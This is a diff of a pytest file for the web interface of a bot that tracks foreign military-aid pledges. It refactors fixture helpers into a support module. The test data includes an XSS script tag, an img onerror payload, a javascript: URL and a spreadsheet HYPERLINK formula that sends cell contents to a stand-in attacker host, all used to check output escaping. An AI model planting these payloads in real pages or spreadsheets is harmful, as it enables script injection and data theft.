@@ -5,51 +5,41 @@ CSV safe against formulas, JSON, Atom, English and French."""
 
 from __future__ import annotations
 
-import asyncio
 import csv
 import io
 import json
-import threading
 import urllib.error
 import urllib.request
-from datetime import timedelta
 from xml.etree import ElementTree
 
 import pytest
 
 from bot.config import load_entities, load_settings
-from bot.core.models import Entry, Feed, Pledge
+from bot.core.models import Feed, Pledge
 from bot.core.pledges.filters import PledgeFilter, parse_pledge_filters
 from bot.errors import ConfigError
 from bot.web.headers import CSP
 from bot.web.params import BadRequest, View, filter_words, link, parse_view
 from bot.web.server import WebServer
 from bot.web.texts import negotiate
+from tests.support.web_tracker import add_story, get, serving
 
 HOSTILE_TITLE = 'Aid <script>alert("t")</script> & more'
 HOSTILE_OUTLET = '<img src=x onerror=alert(1)>Wire'
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
-def _add(store, clock, feed_id, n, title, outlet, url, pledges, days_ago):
-    when = clock.now() - timedelta(days=days_ago)
-    entry_id = store.insert_entry(feed_id, Entry(feed_url="", guid=f"g{n}", url=url, title=title, published=when),
-                                  url, when)
-    story_id = store.create_story(title, url, when, when, "{}", ["aid"], 2.0)
-    store.add_story_source(story_id, entry_id, feed_id, outlet, url, when)
-    store.add_pledges(story_id, entry_id, pledges, when)
-
-
 @pytest.fixture
 def filled(store, clock):
     feed_id = store.add_feed(Feed(url="https://wire.example/feed.xml", name="Wire"), clock.now())[0]
-    _add(store, clock, feed_id, 1, "Germany sends IRIS-T", "Wire", "https://wire.example/1",
-         [Pledge("DE", "air_defence", "delivered", "IRIS-T", "IRIS-T", 2, evidence="Germany delivered two IRIS-T.")], 3)
-    _add(store, clock, feed_id, 2, HOSTILE_TITLE, HOSTILE_OUTLET, "javascript:alert(1)",
-         [Pledge("US", "funding", "pledged", "package", None, None, 400e6, "USD", evidence=FORMULA),
-          Pledge("US", "tanks", "refused", "Abrams", "Abrams", 31, evidence="No Abrams for now.")], 10)
-    _add(store, clock, feed_id, 3, "Paris pledges money", "Journal", "https://journal.example/3",
-         [Pledge("FR", "funding", "pledged", "aide", None, None, 2e9, "EUR", evidence="Deux milliards.")], 60)
+    add_story(store, clock, feed_id, 1, "Germany sends IRIS-T", "Wire", "https://wire.example/1",
+              [Pledge("DE", "air_defence", "delivered", "IRIS-T", "IRIS-T", 2,
+                      evidence="Germany delivered two IRIS-T.")], 3)
+    add_story(store, clock, feed_id, 2, HOSTILE_TITLE, HOSTILE_OUTLET, "javascript:alert(1)",
+              [Pledge("US", "funding", "pledged", "package", None, None, 400e6, "USD", evidence=FORMULA),
+               Pledge("US", "tanks", "refused", "Abrams", "Abrams", 31, evidence="No Abrams for now.")], 10)
+    add_story(store, clock, feed_id, 3, "Paris pledges money", "Journal", "https://journal.example/3",
+              [Pledge("FR", "funding", "pledged", "aide", None, None, 2e9, "EUR", evidence="Deux milliards.")], 60)
     return store
 
 
@@ -57,35 +47,6 @@ def filled(store, clock):
 def web(filled, clock):
     """A real WebServer on a loopback port, in its own event loop thread."""
     yield from serving(WebServer(filled.path, load_entities(), clock, "127.0.0.1", 0))
-
-
-def serving(server: WebServer):
-    loop = asyncio.new_event_loop()
-    ready = threading.Event()
-    stop = asyncio.Event()
-
-    async def serve():
-        await server.start()
-        ready.set()
-        await stop.wait()
-        await server.stop()
-
-    thread = threading.Thread(target=loop.run_until_complete, args=(serve(),), daemon=True)
-    thread.start()
-    assert ready.wait(10)
-    yield f"http://127.0.0.1:{server.port}"
-    loop.call_soon_threadsafe(stop.set)
-    thread.join(10)
-    loop.close()
-
-
-def get(url: str, **headers: str) -> tuple[int, dict, str]:
-    request = urllib.request.Request(url, headers=headers)
-    try:
-        with urllib.request.urlopen(request, timeout=10) as response:
-            return response.status, dict(response.headers), response.read().decode("utf-8")
-    except urllib.error.HTTPError as exc:
-        return exc.code, dict(exc.headers), exc.read().decode("utf-8")
 
 
 # -- parameters -----------------------------------------------------------------------------
@@ -257,9 +218,9 @@ def test_the_atom_feed_stays_xml_when_feed_text_carries_characters_xml_forbids(s
     # feed item carrying one (feedparser's loose parser keeps them) put it in the pledge's
     # evidence, and every reader refused the whole Atom feed as malformed.
     feed_id = store.add_feed(Feed(url="https://wire.example/feed.xml", name="Wire \uffff"), clock.now())[0]
-    _add(store, clock, feed_id, 1, "Norway \ufffe sends NASAMS", "Wire \uffff", "https://wire.example/1",
-         [Pledge("NO", "air_defence", "pledged", "NASAMS \uffff", "NASAMS", 2,
-                 evidence="Norway will send \uffff two \ufffe NASAMS.")], 1)
+    add_story(store, clock, feed_id, 1, "Norway \ufffe sends NASAMS", "Wire \uffff", "https://wire.example/1",
+              [Pledge("NO", "air_defence", "pledged", "NASAMS \uffff", "NASAMS", 2,
+                      evidence="Norway will send \uffff two \ufffe NASAMS.")], 1)
     for url in serving(WebServer(store.path, load_entities(), clock, "127.0.0.1", 0)):
         status, _, text = get(url + "/pledges.atom")
     assert status == 200
@@ -377,8 +338,8 @@ def test_cached_totals_follow_new_pledges(filled, clock):
     before = data.totals(view, clock.now())
     assert data.totals(view, clock.now()) is before and len(cache) == 1
     feed_id = filled.list_feeds()[0].id
-    _add(filled, clock, feed_id, 9, "Oslo sends NASAMS", "Wire", "https://wire.example/9",
-         [Pledge("NO", "air_defence", "pledged", "NASAMS", "NASAMS", 2)], 1)
+    add_story(filled, clock, feed_id, 9, "Oslo sends NASAMS", "Wire", "https://wire.example/9",
+              [Pledge("NO", "air_defence", "pledged", "NASAMS", "NASAMS", 2)], 1)
     after = data.totals(view, clock.now())
     assert after.donors["NO"] == 1 and before.donors["NO"] == 0
     assert WebData(filled).totals(view, clock.now()).donors == after.donors  # uncached: the same answer
